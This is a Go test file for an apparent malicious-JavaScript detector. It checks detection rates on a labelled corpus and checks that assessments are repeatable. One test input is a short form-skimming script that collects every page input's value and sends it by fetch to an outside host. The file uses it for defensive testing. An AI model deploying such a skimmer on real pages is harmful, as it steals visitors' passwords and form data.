package script_test

import (
	"archive/tar"
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ulikunitz/xz"

	"tradecraft/intake/site/script"
	"tradecraft/intake/site/script/corpus"
	"tradecraft/internal/shareddata"
)

// TestLabelled holds the embedded model to floors on the labelled texts. Some
// of them are among those it was trained on; docs/quality.md has the figures
// by families left out.
func TestLabelled(t *testing.T) {
	if testing.Short() {
		t.Skip("reads 210 labelled texts")
	}
	dir := shareddata.Path(t, "data/site")
	rows, err := corpus.ReadRows(filepath.Join(dir, "js_dev_manifest.jsonl.gz"))
	if err != nil {
		t.Fatal(err)
	}
	texts := labelledTexts(t, filepath.Join(dir, "js_dev.tar.xz"))
	var bad, found, benign, called, suspected int
	for _, r := range rows {
		text, ok := texts[r.File]
		if !ok || !r.Measured() {
			continue
		}
		a := assess(t, text, script.Options{})
		switch {
		case r.Label == "malicious":
			bad++
			if a.Verdict == script.Malicious {
				found++
			}
		default:
			benign++
			if a.Verdict == script.Malicious {
				called++
			} else if a.Verdict == script.Suspicious {
				suspected++
			}
		}
	}
	t.Logf("%d of %d malicious texts found; of %d obfuscated benign ones %d called malicious, %d suspicious", found, bad, benign, called, suspected)
	if bad == 0 || float64(found) < 0.75*float64(bad) {
		t.Errorf("%d of %d found", found, bad)
	}
	if benign == 0 || called > 0 || suspected > 1 {
		t.Errorf("of %d obfuscated benign texts %d called malicious, %d suspicious", benign, called, suspected)
	}
}

func labelledTexts(t *testing.T, path string) map[string]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := xz.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	out := map[string]string{}
	for r := tar.NewReader(z); ; {
		h, err := r.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		if h.Typeflag != tar.TypeReg {
			continue
		}
		b, err := io.ReadAll(io.LimitReader(r, 8<<20))
		if err != nil {
			t.Fatal(err)
		}
		out[strings.TrimPrefix(h.Name, "./")] = string(b)
	}
}

// TestSameBytes: the same text gives the same assessment.
func TestSameBytes(t *testing.T) {
	text := "var t=['value','https://a.top/x'];document.querySelectorAll('input').forEach(function(i){fetch(t[1],{body:i[t[0]]})})"
	first := assess(t, text, script.Options{})
	for range 3 {
		again, _, err := script.Assess(context.Background(), []byte(text), script.Options{})
		if err != nil {
			t.Fatal(err)
		}
		if again.Score != first.Score || len(again.Findings) != len(first.Findings) {
			t.Fatalf("%v, then %v", first, again)
		}
	}
}
